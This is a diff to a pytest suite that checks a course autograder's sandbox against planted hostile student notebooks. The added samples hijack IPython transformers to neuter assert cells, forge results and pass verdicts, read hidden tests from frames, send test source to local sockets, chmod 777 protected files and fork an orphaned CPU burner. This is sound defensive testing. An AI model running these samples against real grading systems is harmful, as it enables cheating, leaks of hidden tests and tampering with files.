@@ -1,11 +1,14 @@
-"""Hostile and broken submissions, graded by the real `make grade` together with honest ones.
+"""Hostile, broken and messy-but-honest submissions, graded by the real `make grade` with honest ones.
 
 One `make grade JOBS=3` run grades every planted student below. Each case states the points it
 must get (chapter 1: parts A-F are worth 2, 3, 3, 3, 2, 3 = 16 automatic points), and the suite
-asserts them all, plus: the run finishes, grading/submitted/ is byte-for-byte unchanged, every
-student gets a feedback file, hidden tests never appear in any feedback, nothing is written
-outside a notebook's own folder, and the mechanisms (time limits, kernel restarts, the guard, the
-sandbox) left the traces they should in grading/report.csv and the autograded notebooks.
+asserts them all - an attack on blank answers must score exactly what the blank release scores,
+an honest accident full marks - plus: the run finishes, grading/submitted/ is byte-for-byte
+unchanged, every student gets a feedback file, hidden tests never appear in any feedback nor in
+what a running test could print, nothing is written or chmod-ed outside a notebook's scratch copy,
+no packet reaches listeners on the host, no process outlives the run, and the mechanisms (time
+limits, kernel restarts, the guard, the sandbox, the repairs) left the traces they should in
+grading/report.csv and the autograded notebooks.
 
 Chapter 1 gets the full set of cases; every other assignment in course.assignment_names() gets
 the generic ones (a raising answer, a kernel killed mid-notebook, a cheating input transformer,
@@ -24,6 +27,7 @@ import html
 import os
 import re
 import secrets
+import socket
 import subprocess
 import symtable
 from dataclasses import dataclass, field
@@ -34,11 +38,11 @@ import pytest
 
 from conftest import REPO
 from dgm import course
+from dgm.grading import cells
 from test_grading import HALF
 
 CH1 = "01_autoencoders"
 NAMES = course.assignment_names()
-SANDBOXED = course.sandbox_support()["files"]
 TOKEN = secrets.token_hex(6)  # names the files a hostile notebook tries to write outside its folder
 SETTINGS = {"JOBS": "3", "GRADE_CELL_TIMEOUT": "30", "GRADE_NOTEBOOK_TIMEOUT": "300", "GRADE_MEMORY_MB": "3072"}
 
@@ -54,12 +58,12 @@ def _by_id(nb):
 
 
 def _test_ids(nb):
-    return [gid for gid, c in _by_id(nb).items() if course.is_test_cell(c)]
+    return [gid for gid, c in _by_id(nb).items() if cells.is_test_cell(c)]
 
 
 def _points(nb, ids=None):
     return sum(_meta(c).get("points", 0) for gid, c in _by_id(nb).items()
-               if course.is_test_cell(c) and (ids is None or gid in ids))
+               if cells.is_test_cell(c) and (ids is None or gid in ids))
 
 
 def _answer_ids(nb):
@@ -217,9 +221,19 @@ for _c in _candidates:
 LEAK_A = """_leaked = []
 def reconstruction_error(x, x_hat):
     import inspect, sys
-    if not _leaked:
+    if not _leaked:  # every way to the running test's source: the frames, their code, the request
         _leaked.append(1)
-        print(inspect.getsource(sys._getframe(1)))  # the test cell that called us, hidden tests included
+        print("TRIED")
+        frame = sys._getframe(1)
+        while frame is not None:
+            for attempt in (lambda: inspect.getsource(frame), lambda: frame.f_code.co_consts,
+                            lambda: frame.f_globals.get("__dgm_graded_test").__code__.co_consts):
+                try:
+                    print(attempt())
+                except Exception as e:
+                    print("BLOCKED", type(e).__name__)
+            frame = frame.f_back
+        print(get_ipython().kernel.get_parent()["content"]["code"])
     if x.shape != x_hat.shape:
         raise ValueError("x and x_hat must have the same shape")
     return ((x - x_hat) ** 2).reshape(x.shape[0], -1).sum(dim=1)
@@ -232,6 +246,80 @@ print(get_ipython().last_execution_result.info.raw_cell)
 print(In)
 """
 LIST_FOLDER = "import os, helper\nprint('FOLDER', sorted(os.listdir('.')), helper.VALUE)\n"
+PORT_UDP, PORT_TCP = 0, 0  # set by the fixture: real listeners on the host's 127.0.0.1
+HIJACK_TRANSFORM_CELL = """ip = get_ipython()
+_real_transform = ip.input_transformer_manager.transform_cell
+ip.input_transformer_manager.transform_cell = lambda cell: "pass\\n" if "assert" in cell else _real_transform(cell)
+"""
+HIJACK_LINE_TRANSFORMS = """get_ipython().input_transformer_manager.line_transforms.append(
+    lambda lines: [line for line in lines if "assert" not in line and "_test" not in line])
+"""
+HIJACK_AST_PARSE = """import ast as _ast
+_compiler = get_ipython().compile
+_real_parse = _compiler.ast_parse
+_compiler.ast_parse = lambda source, *a, **k: _ast.parse("pass") if "grading" in source else _real_parse(source, *a, **k)
+"""
+DISPLAYHOOK = """def {name}(*args, **kwargs):
+    import sys
+    sys.displayhook("full marks")
+    sys.displayhook(1)
+    raise NotImplementedError()
+"""
+FORGED_RESULT = """def {name}(*args, **kwargs):
+    kernel = get_ipython().kernel
+    for value in ("'full marks'", "99"):
+        kernel.session.send(kernel.iopub_socket, "execute_result", {{"data": {{"text/plain": value}}, "metadata": {{}},
+                            "execution_count": 1}}, parent=kernel.get_parent())
+    raise NotImplementedError()
+"""
+FORGED_VERDICT = """def {name}(*args, **kwargs):
+    import base64, json, sys
+    first = get_ipython().kernel.get_parent()["content"]["code"].split("\\n", 1)[0].split()
+    payload = base64.b64encode(json.dumps({{"status": "pass"}}).encode()).decode()
+    sys.stdout.write(" ".join(first[:3] + [payload, "0" * 64]) + "\\n")
+    sys.stdout.flush()
+    raise SystemExit(0)
+"""
+LEAK_NETWORK_A = """def reconstruction_error(x, x_hat):
+    import socket
+    code = get_ipython().kernel.get_parent()["content"]["code"].encode()
+    for kind, port in ((socket.SOCK_DGRAM, {udp}), (socket.SOCK_STREAM, {tcp})):
+        try:
+            s = socket.socket(socket.AF_INET, kind)
+            s.settimeout(1)
+            if kind == socket.SOCK_DGRAM:
+                s.sendto(code[:1000], ("127.0.0.1", port))
+            else:
+                s.connect(("127.0.0.1", port))
+                s.sendall(code)
+            print("SENT", kind)
+        except OSError as e:
+            print("BLOCKED", kind, type(e).__name__)
+    if x.shape != x_hat.shape:
+        raise ValueError("x and x_hat must have the same shape")
+    return ((x - x_hat) ** 2).reshape(x.shape[0], -1).sum(dim=1)
+"""
+CHMOD = """import os, pathlib, sys
+for _target in {targets!r} + [sys.executable, os.path.realpath(sys.executable)]:
+    try:
+        os.chmod(_target, 0o777)
+        print("CHMOD", _target)
+    except OSError as _e:
+        print("DENIED", _target, type(_e).__name__)
+"""
+BURNER = """import os
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv("/bin/sh", ["sh", "-c", "while :; do :; done # burner-{token}"])
+    os._exit(0)
+print("burner started")
+"""
+NOISY = """import logging, sys, warnings
+print("debugging to stderr", file=sys.stderr)
+logging.getLogger("student").warning("a warning through logging")
+warnings.warn("a warning through warnings")
+"""
 
 
 # ---- cases --------------------------------------------------------------------------------------
@@ -249,6 +337,20 @@ class Case:
     readable: bool = True
     report: tuple = ()  # substrings of this student's notes in report.csv
     why: str = ""
+    skipped: bool = False  # a folder the grader cannot take: a report row saying why, no score, no feedback
+
+
+def _answers(nb, gids, template):
+    for gid in gids:
+        _by_id(nb)[gid].source = template.format(name=gid)  # these answers define a function named gid
+    return nb
+
+
+def _chmod_targets(root: Path) -> list[Path]:
+    """Files outside a student's folder that a hostile notebook tries to chmod; their modes must not change."""
+    return [root / "gradebook.db", root / "source" / CH1 / f"{CH1}.ipynb", REPO / "solutions" / CH1 / f"{CH1}.md",
+            root / "submitted" / "honest_solved" / CH1 / f"{CH1}.ipynb", REPO / "Makefile",
+            Path.home() / ".bashrc", REPO / ".venv" / "bin" / "python"]
 
 
 def _ch1_cases(p: Planter, root: Path) -> list[Case]:
@@ -277,7 +379,7 @@ def _ch1_cases(p: Planter, root: Path) -> list[Case]:
              report=("output_truncated",), why="prints 27 MB: output capped, points unaffected"),
         Case("writes_outside", a, 16, p.insert_after(p.solved(demos=False), "setup", WRITE_OUTSIDE),
              why="tries to write next to the gradebook, in /tmp and in the repository: denied, points unaffected"),
-        Case("reads_hidden_tests", a, 0 if SANDBOXED else None, p.insert_after(p.blank(), "setup", READ_FROM_DISK),
+        Case("reads_hidden_tests", a, 0, p.insert_after(p.blank(), "setup", READ_FROM_DISK),
              why="reads solutions/, the source notebook and the gradebook to exec the solutions: denied; 0"),
         Case("patches_libraries", a, 0,
              p.answer(p.answer(p.answer(p.blank(), "reconstruction_error", PATCH_LIBRARIES + WRONG_A),
@@ -299,7 +401,7 @@ def _ch1_cases(p: Planter, root: Path) -> list[Case]:
         Case("leaks_hidden_tests", a, 16,
              p.insert_after(p.answer(p.solved(demos=False), "reconstruction_error", LEAK_A), "denoising_train_step",
                             LEAK_END),
-             why="prints the hidden tests (caller's source, linecache, In): honest points, feedback redacted"),
+             why="tries to print the running test (frames, their code, the request, linecache, In): honest points"),
     ]
     tampered = p.solved(demos=False)
     cells = _by_id(tampered)
@@ -318,6 +420,57 @@ def _ch1_cases(p: Planter, root: Path) -> list[Case]:
     retyped.cells[retyped.cells.index(test_d)] = nbformat.v4.new_markdown_cell(test_d.source, metadata=test_d.metadata)
     cases.append(Case("retyped_test_cell", a, 13, retyped, report=("changed from code to markdown",),
                       why="wrong D with its test cell turned into markdown: restored as code; D = 0"))
+    # the input pipeline, results and verdicts: blank answers must stay at 0
+    attack = {"reconstruction_error", "mask_corrupt", "largest_principal_angle"}
+    cases += [
+        Case("hijacks_transform_cell", a, 0, p.insert_after(p.blank(), "setup", HIJACK_TRANSFORM_CELL),
+             why="replaces input_transformer_manager.transform_cell: every cell with an assert becomes pass"),
+        Case("hijacks_line_transforms", a, 0, p.insert_after(p.blank(), "setup", HIJACK_LINE_TRANSFORMS),
+             why="a line transform drops every assert line"),
+        Case("hijacks_ast_parse", a, 0, p.insert_after(p.blank(), "setup", HIJACK_AST_PARSE),
+             report=("no verdict",), why="replaces compile.ast_parse: the grader's cells parse as pass"),
+        Case("displayhook_result", a, 0, _answers(p.blank(), attack, DISPLAYHOOK),
+             why="the answers publish 'full marks' and 1 through sys.displayhook while the tests run"),
+        Case("forged_execute_result", a, 0, _answers(p.blank(), attack, FORGED_RESULT),
+             why="the answers send forged execute_result messages ('full marks', 99) on the kernel's session"),
+        Case("forged_verdict", a, 0, _answers(p.blank(), attack, FORGED_VERDICT),
+             why="the answers read the running request and print a forged 'pass' verdict, then exit"),
+        Case("leaks_over_network", a, 16, p.answer(p.solved(demos=False), "reconstruction_error",
+                                                  LEAK_NETWORK_A.format(udp=PORT_UDP, tcp=PORT_TCP)),
+             why="sends the running test's source over UDP and TCP to 127.0.0.1: nothing arrives; honest points"),
+        Case("chmods_files", a, 16, p.insert_after(p.solved(demos=False), "setup", CHMOD.format(
+            targets=[str(t) for t in _chmod_targets(root)])),
+            why="chmod 777 on the gradebook, grades, solutions, another student, the venv, ~/.bashrc: denied"),
+        Case("forks_burner", a, 16, p.insert_after(p.solved(demos=False), "setup", BURNER.format(token=TOKEN)),
+             why="a forked, setsid CPU burner: killed with its sandbox; honest points"),
+    ]
+    # honest but messy: full marks, with a note
+    bare = p.solved()
+    for cell in bare.cells:
+        cell.metadata.pop("nbgrader", None)
+        cell.metadata.pop("deletable", None)
+        cell.metadata.pop("editable", None)
+        cell["id"] = secrets.token_hex(4)
+    no_setup = p.solved()
+    no_setup.cells.remove(_by_id(no_setup)["setup"])
+    noisy = p.solved()
+    for gid in ("reconstruction_error", "mask_corrupt", "pca_subspace"):
+        body = _by_id(noisy)[gid].source
+        head, rest = body.split(":\n", 1)
+        _by_id(noisy)[gid].source = head + ":\n" + "".join("    " + line + "\n" for line in NOISY.splitlines()) + rest
+    cases += [
+        Case("no_metadata", a, 16, bare, report=("no grading metadata",),
+             why="the answers pasted into a fresh notebook: no nbgrader metadata, new cell ids"),
+        Case("bad_timestamp", a, 16, p.solved(), files={"timestamp.txt": b"last Tuesday, around noon"},
+             report=("timestamp.txt does not hold a date",), why="timestamp.txt that is not a date"),
+        Case("-x", a, 16, p.solved(), why="a student folder whose name starts with a dash"),
+        Case(".x", a, None, p.solved(), skipped=True, readable=False, report=("starts with '.'",),
+             why="a hidden student folder: nbgrader cannot see it; reported as skipped with the reason"),
+        Case("deleted_setup", a, 16, no_setup, report=("'setup' was missing",),
+             why="the read-only setup cell deleted (VS Code, Colab ignore deletable: false): restored"),
+        Case("stderr_and_logging", a, 16, noisy,
+             why="answers that print to stderr, log a warning and call warnings.warn"),
+    ]
     # broken submissions
     renamed = nbformat.writes(p.solved())
     source_nb = root / "source" / a / f"{a}.ipynb"
@@ -403,8 +556,18 @@ def _write_case(root: Path, case: Case) -> None:
             path.write_bytes(content)
 
 
+def _modes(paths) -> dict:
+    return {str(p): os.stat(p).st_mode for p in paths if p.exists()}
+
+
 @pytest.fixture(scope="module")
 def graded(tmp_path_factory):
+    global PORT_UDP, PORT_TCP
+    udp, tcp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    udp.bind(("127.0.0.1", 0))
+    tcp.bind(("127.0.0.1", 0))
+    tcp.listen(8)
+    PORT_UDP, PORT_TCP = udp.getsockname()[1], tcp.getsockname()[1]
     root = tmp_path_factory.mktemp("hostile")
     release_dir = tmp_path_factory.mktemp("hostile-release")
     old = os.environ.get("DGM_GRADING_ROOT")
@@ -425,6 +588,7 @@ def graded(tmp_path_factory):
     for case in cases:
         _write_case(root, case)
     before = _digest(root / "submitted")
+    modes = _modes(_chmod_targets(root))
     env = {**os.environ, "DGM_GRADING_ROOT": str(root)}
     # -o: grading is under test here, not the install step `setup` would redo after an edit of pyproject.toml
     cmd = ["make", "-o", ".venv/.dgm-installed", "grade", *(f"{k}={v}" for k, v in SETTINGS.items())]
@@ -433,9 +597,17 @@ def graded(tmp_path_factory):
     with open(root / "grades.csv", newline="") as f:
         scores = {(r["student_id"], r["assignment"]): float(r["score"]) for r in csv.DictReader(f)}
     with open(root / "report.csv", newline="") as f:
-        report = {(r["student"], r["assignment"]): r for r in csv.DictReader(f)}
+        report = {(r["student"], r["assignment"] or CH1): r for r in csv.DictReader(f)}
+    received = []
+    for sock in (udp, tcp):
+        sock.setblocking(False)
+        try:
+            received.append(sock.recv(4096) if sock is udp else sock.accept())
+        except BlockingIOError:
+            pass
+        sock.close()
     return dict(root=root, cases=cases, scores=scores, report=report, before=before, stdout=result.stdout,
-                sources={n: p.source for n, p in planters.items()})
+                sources={n: p.source for n, p in planters.items()}, modes=modes, received=received)
 
 
 def _autograded(graded, student, assignment=CH1):
@@ -443,8 +615,8 @@ def _autograded(graded, student, assignment=CH1):
 
 
 def _outputs_text(nb, gid=None):
-    cells = [c for c in nb.cells if c.cell_type == "code" and (gid is None or _meta(c).get("grade_id") == gid)]
-    return "\n".join(course._output_text(o) for c in cells for o in c.outputs)
+    chosen = [c for c in nb.cells if c.cell_type == "code" and (gid is None or _meta(c).get("grade_id") == gid)]
+    return "\n".join(cells.output_text(o) for c in chosen for o in c.outputs)
 
 
 def _feedback_text(path: Path) -> str:
@@ -484,7 +656,9 @@ def test_report_shows_what_happened(graded):
         notes = graded["report"][(case.student, case.assignment)]["notes"]
         missing += [f"{case.student}: {needle!r} not in {notes!r}" for needle in case.report if needle not in notes]
         if not case.readable:
-            assert graded["report"][(case.student, case.assignment)]["status"] in ("missing", "unreadable")
+            assert graded["report"][(case.student, case.assignment)]["status"] in ("missing", "unreadable", "skipped")
+        if case.skipped:
+            assert (case.student, case.assignment) not in graded["scores"]
     assert not missing, "\n".join(missing)
 
 
@@ -495,6 +669,9 @@ def test_submitted_folder_is_untouched(graded):
 def test_every_student_gets_feedback_without_hidden_tests(graded):
     root, leaks = graded["root"], []
     for case in graded["cases"]:
+        if case.skipped:
+            assert not (root / "feedback" / case.student).exists()
+            continue
         page = root / "feedback" / case.student / case.assignment / f"{case.assignment}.html"
         assert page.is_file(), f"no feedback for {case.student} / {case.assignment}"
         text = _feedback_text(page)
@@ -508,10 +685,11 @@ def test_every_student_gets_feedback_without_hidden_tests(graded):
     assert "visible tests passed" in solved and "reconstruction_error(_x, _xh)" in solved
 
 
-def test_leaked_hidden_tests_are_in_the_instructors_copy_only(graded):
+def test_the_running_test_cannot_be_read(graded):
     text = _outputs_text(_autograded(graded, "leaks_hidden_tests"))
+    assert "TRIED" in text and "BLOCKED" in text, "the leaking answer did not run: the check proves nothing"
     leaked = [line for line in _hidden_lines(graded["sources"][CH1]) if line in text]
-    assert leaked, "the leaking notebook did not manage to print hidden tests: the feedback check proves nothing"
+    assert not leaked, f"hidden tests printed while they ran: {leaked[:5]}"
 
 
 def test_time_limits_stop_cells_and_grading_goes_on(graded):
@@ -532,8 +710,6 @@ def test_output_is_capped(graded):
 
 
 def test_nothing_is_written_outside_the_notebook_folder(graded):
-    if not SANDBOXED:
-        pytest.skip("this Linux kernel has no Landlock: grading kernels can write anywhere the grader can")
     text = _outputs_text(_autograded(graded, "writes_outside"))
     assert f"REPO {REPO}" in text, "the hostile cell did not find the repository: the check proves nothing"
     assert "INSIDE OK" in text and "WROTE" not in text and text.count("DENIED") == 3, text[-2000:]
@@ -542,8 +718,6 @@ def test_nothing_is_written_outside_the_notebook_folder(graded):
 
 
 def test_hidden_tests_and_solutions_cannot_be_read_from_disk(graded):
-    if not SANDBOXED:
-        pytest.skip("this Linux kernel has no Landlock: grading kernels can read the course files")
     text = _outputs_text(_autograded(graded, "reads_hidden_tests"))
     assert f"REPO {REPO}" in text and (REPO / "solutions" / CH1 / f"{CH1}.md").is_file()
     assert "SOLVED FROM DISK" not in text and "READ " not in text, text[-3000:]
@@ -560,6 +734,46 @@ def test_extra_files_links_and_large_files(graded):
     assert not (graded["root"] / "autograded" / "extra_files" / CH1 / "data" / "blob.bin").exists()
 
 
+def test_no_packet_leaves_the_sandbox(graded):
+    text = _outputs_text(_autograded(graded, "leaks_over_network"))
+    assert "SENT" in text or "BLOCKED" in text, "the leaking answer did not run: the check proves nothing"
+    assert graded["received"] == [], f"the host's listeners received {graded['received']!r}"
+
+
+def test_no_mode_changes_outside_grading(graded):
+    text = _outputs_text(_autograded(graded, "chmods_files"))
+    assert "DENIED" in text and "CHMOD" not in text, text[-2000:]
+    assert _modes(_chmod_targets(graded["root"])) == graded["modes"]
+
+
+def test_no_process_outlives_grading(graded):
+    assert "burner started" in _outputs_text(_autograded(graded, "forks_burner"))
+    left = []
+    for entry in Path("/proc").iterdir():
+        try:
+            cmdline = (entry / "cmdline").read_bytes() if entry.name.isdigit() else b""
+        except OSError:
+            continue
+        if TOKEN.encode() in cmdline or str(graded["root"]).encode() in cmdline:
+            left.append(cmdline.replace(b"\0", b" ")[:200])
+    assert not left, left
+
+
+def test_test_cells_never_score_from_results_or_forged_output(graded):
+    for student in ("displayhook_result", "forged_execute_result", "forged_verdict"):
+        nb = _autograded(graded, student)
+        for cell in nb.cells:
+            if cells.is_test_cell(cell):
+                kinds = {o.output_type for o in cell.outputs}
+                assert "execute_result" not in kinds and "error" in kinds, (student, _meta(cell)["grade_id"], kinds)
+
+
+def test_skipped_folders_are_reported(graded):
+    row = graded["report"][(".x", CH1)]
+    assert row["status"] == "skipped" and "starts with '.'" in row["notes"]
+    assert graded["scores"][("-x", CH1)] == 16
+
+
 @pytest.mark.parametrize("name", NAMES)
 def test_test_cells_are_self_contained(name):
     """Test cells use only what they import or define, the answers' names and the read-only cells' names.
@@ -571,7 +785,7 @@ def test_test_cells_are_self_contained(name):
     source = course.to_notebook(REPO / "solutions" / name / f"{name}.md")
     answer_names = set()
     for cell in source.cells:
-        if cell.cell_type != "code" or course.is_test_cell(cell):
+        if cell.cell_type != "code" or cells.is_test_cell(cell):
             continue
         tree = ast.parse(cell.source)
         if _meta(cell).get("solution"):
@@ -585,9 +799,9 @@ def test_test_cells_are_self_contained(name):
                 elif isinstance(node, ast.Assign):
                     answer_names |= {n.id for t in node.targets for n in ast.walk(t) if isinstance(n, ast.Name)}
     for cell in source.cells:
-        if not course.is_test_cell(cell):
+        if not cells.is_test_cell(cell):
             continue
-        wrapped = course.wrap_test_source(cell.source)
+        wrapped = cells.wrap_test_source(cell.source)
         assert "__dgm_graded_test" in wrapped, f"{_meta(cell)['grade_id']} does not parse as plain Python"
         table = symtable.symtable(wrapped, "<test>", "exec")
         function = next(t for t in table.get_children() if t.get_name() == "__dgm_graded_test")
@@ -612,6 +826,10 @@ def test_case_table_for_the_guide():
                             ("patches_at_runtime", 0), ("rebinds_test_names", 0), ("hooks_ipython", 11),
                             ("leaks_hidden_tests", 16), ("tampered_tests", 8), ("retyped_test_cell", 13),
                             ("not_json", 0), ("not_a_notebook", 0), ("empty_folder", 0), ("renamed_notebook", 0),
-                            ("notebook_is_a_link", 0), ("extra_files", 16)]:
+                            ("notebook_is_a_link", 0), ("extra_files", 16), ("hijacks_transform_cell", 0),
+                            ("hijacks_line_transforms", 0), ("hijacks_ast_parse", 0), ("displayhook_result", 0),
+                            ("forged_execute_result", 0), ("forged_verdict", 0), ("leaks_over_network", 16),
+                            ("chmods_files", 16), ("forks_burner", 16), ("no_metadata", 16), ("bad_timestamp", 16),
+                            ("-x", 16), ("deleted_setup", 16), ("stderr_and_logging", 16)]:
         row = re.search(rf"^\|\s*`{student}`\s*\|.*\|\s*{points}\s*\|\s*$", page, flags=re.M)
         assert row, f"book/instructors.md has no table row for `{student}` with {points} points"
